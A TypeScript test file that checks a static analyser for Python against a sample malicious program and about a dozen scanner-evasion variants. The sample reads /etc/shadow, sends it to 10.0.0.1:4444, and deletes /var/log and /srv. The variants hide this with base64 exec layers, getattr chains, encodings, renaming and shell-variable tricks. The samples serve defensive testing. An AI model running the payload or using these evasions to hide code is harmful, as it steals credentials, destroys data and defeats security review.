import { Buffer } from 'node:buffer';
import { describe, expect, it } from 'vitest';
import { inspected } from '../inspect.fixture.ts';

const PLAIN = `import os, shutil, socket
def gather():
    with open("/etc/shadow") as f:
        return f.read()
data = gather()
s = socket.socket()
s.connect(("10.0.0.1", 4444))
s.send(data.encode())
shutil.rmtree("/var/log")
os.system("rm -rf /srv")
`;

/** The same program, hidden in the ways that are tried against scanners. */
const EVASIONS: Readonly<Record<string, string>> = {
  'suppression comments': PLAIN.replaceAll('\n', '  # nosec noqa\n'),
  'base64 and exec': `import base64\nexec(base64.b64decode(${JSON.stringify(Buffer.from(PLAIN).toString('base64'))}))\n`,
  'chains of getattr': PLAIN.replace('open(', 'getattr(__import__("builtins"), "op" + "en")(')
    .replace('s.connect(', 'getattr(s, "conn" + "ect")(')
    .replace('socket.socket()', 'getattr(getattr(__import__("socket"), "socket"), "__call__")()')
    .replace('shutil.rmtree(', 'getattr(shutil, "".join(["rm", "tree"]))(')
    .replace('os.system(', 'getattr(os, "metsys"[::-1])('),
  'texts in pieces': PLAIN.replace('"/etc/shadow"', '"/e" + "tc" + "/sh" "adow"')
    .replace('"10.0.0.1"', '".".join(["10", "0", "0", "1"])')
    .replace('"/var/log"', '"/%s/%s" % ("var", "log")')
    .replace('"rm -rf /srv"', '"{} -rf {}".format("rm", "/srv")'),
  renaming: PLAIN.replace('import os, shutil, socket', 'import os as a, shutil as b, socket as c')
    .replaceAll('gather', 'x1')
    .replace('socket.socket()', 'c.socket()')
    .replace('shutil.', 'b.')
    .replace('os.', 'a.')
    .replace('s = ', 'zz = ')
    .replace('s.connect', 'zz.connect')
    .replace('s.send', 'zz.send'),
  'dead code': `if 1 > 2:\n    print("never")\nunused = [i * i for i in range(10)]\n${PLAIN}while False:\n    pass\n`,
  'nesting in functions and classes': `class Outer:\n    class Inner:\n        def run(self):\n            def go():\n${PLAIN.replace(/^(?=.)/gm, '                ')}            go()\nOuter.Inner().run()\n`,
  'other imports': PLAIN.replace(
    'import os, shutil, socket',
    'from os import *\nfrom shutil import rmtree as r\nimport importlib\nk = importlib.import_module("so" + "cket")',
  )
    .replace('socket.socket()', 'k.socket()')
    .replace('shutil.rmtree(', 'r(')
    .replace('os.system(', 'system('),
  'paths in encodings': PLAIN.replace('"/etc/shadow"', 'bytes.fromhex("2f6574632f736861646f77").decode()')
    .replace('"/var/log"', '"".join(map(chr, [47, 118, 97, 114, 47, 108, 111, 103]))')
    .replace('"rm -rf /srv"', '__import__("codecs").decode("ez -es /fei", "rot13")')
    .replace('"10.0.0.1"', '"".join(chr(ord(c) ^ 1) for c in "01/1/1/0")'),
  'globals()': PLAIN.replace('open(', 'globals()["__builtins__"].__dict__["open"](')
    .replace('socket.socket()', 'globals()["socket"].socket()')
    .replace('shutil.rmtree(', 'globals().get("shutil").rmtree(')
    .replace('os.system(', 'vars(globals()["os"])["system"]('),
  'unicode escapes': PLAIN.replace('"/etc/shadow"', '"\\u002f\\x65tc/\\163hadow"')
    .replace('"/var/log"', '"\\N{SOLIDUS}var/log"')
    .replace('os.system', 'ｏｓ.ｓｙｓｔｅｍ'),
  'variables in the shell': PLAIN.replace('"rm -rf /srv"', '"a=r; b=m; $a$b -r\'f\' /s\\"rv\\""'),
};

async function usedIn(code: string): Promise<string[]> {
  const { sites } = await inspected('python', code);
  return sites.map(({ capability, target }) => `${capability} ${target ?? ''}`);
}

const SEEN = [
  'secret.read /etc/shadow',
  'network.connect 10.0.0.1:4444',
  'network.send ',
  'file.delete /var/log',
  'file.delete /srv',
];

describe('what a Python program does is seen', () => {
  it('when nothing hides it', async () => {
    expect(await usedIn(PLAIN)).toEqual(expect.arrayContaining(SEEN));
  });

  it.each(Object.entries(EVASIONS))('behind %s', async (_, code) => {
    expect(code).not.toBe(PLAIN);
    expect(await usedIn(code)).toEqual(expect.arrayContaining(SEEN));
  });

  it('behind all of them that wrap, one in another', async () => {
    let code = PLAIN;
    for (let layer = 0; layer < 6; layer++) {
      code = `exec(__import__("base64").b64decode(${JSON.stringify(Buffer.from(code).toString('base64'))}))\n`;
    }
    expect(await usedIn(code)).toEqual(expect.arrayContaining(SEEN));
  });

  it('and a harmless program is not made into one', async () => {
    const twin = PLAIN.replace('/etc/shadow', 'notes.txt')
      .replace('/var/log', './build')
      .replace('10.0.0.1', 'localhost');
    const used = await usedIn(twin);
    expect(used).toEqual(expect.arrayContaining(['file.read notes.txt', 'file.delete ./build']));
    expect(used.filter((use) => use.startsWith('secret.read'))).toEqual([]);
  });
});

it('one of many values is not lost among the others', async () => {
  const others = Array.from({ length: 45 }, (_, i) => `f("./a${i}")`).join('\n');
  const { sites } = await inspected('python', `import shutil\ndef f(p): shutil.rmtree(p)\n${others}\nf("/home")\n`);
  expect(sites.find(({ callee }) => callee === 'shutil.rmtree')?.target).toContain('/home');
});
